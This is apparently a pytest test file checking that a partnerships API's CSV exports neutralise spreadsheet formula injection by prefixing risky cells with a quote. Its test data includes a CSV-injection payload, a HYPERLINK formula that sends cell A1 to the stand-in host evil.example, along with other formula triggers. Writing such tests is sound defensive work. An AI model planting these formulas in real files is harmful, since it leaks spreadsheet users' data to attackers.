"""Exports: CSV and spreadsheet cells can never run as formulas, whatever a record holds."""

import csv
import io

import pytest

from partnerships.api.renderers import cell, neutralise
from tests import factories
from tests.api.base import client_for, list_url

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1)", "+1+1", "-1+1", "\tx", "\rx"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_starts_a_formula_gets_a_quote_before_it(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["学大教育集团", "2023-11-28", "a=b", "", "'=already quoted"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(("value", "text"), [(-3, "-3"), (2.5, "2.5"), ("-3", "-3"), ("+86", "+86"), ("-0.5", "-0.5")])
def test_a_plain_number_stays_a_number(value, text):
    assert cell(value) == text


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


@pytest.mark.django_db
def test_institution_names_that_look_like_formulas_come_out_inert():
    for name in FORMULAS[:3]:
        factories.InstitutionFactory(name=name)
    rows = csv_rows(client_for(factories.analyst()).get(list_url("institution"), {"format": "csv"}))
    names = {row[rows[0].index("Name")] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULAS[:3]}


@pytest.mark.django_db
def test_a_party_named_like_a_formula_is_inert_in_the_agreements_export():
    agreement = factories.AgreementFactory()
    factories.AgreementPartyFactory(agreement=agreement, institution=factories.InstitutionFactory(name="@SUM(1)"))
    rows = csv_rows(client_for(factories.analyst()).get(list_url("agreement"), {"format": "csv"}))
    assert rows[1][rows[0].index("Parties")].startswith("'@SUM(1)")
    assert rows[1][rows[0].index("ID")] == str(agreement.pk)
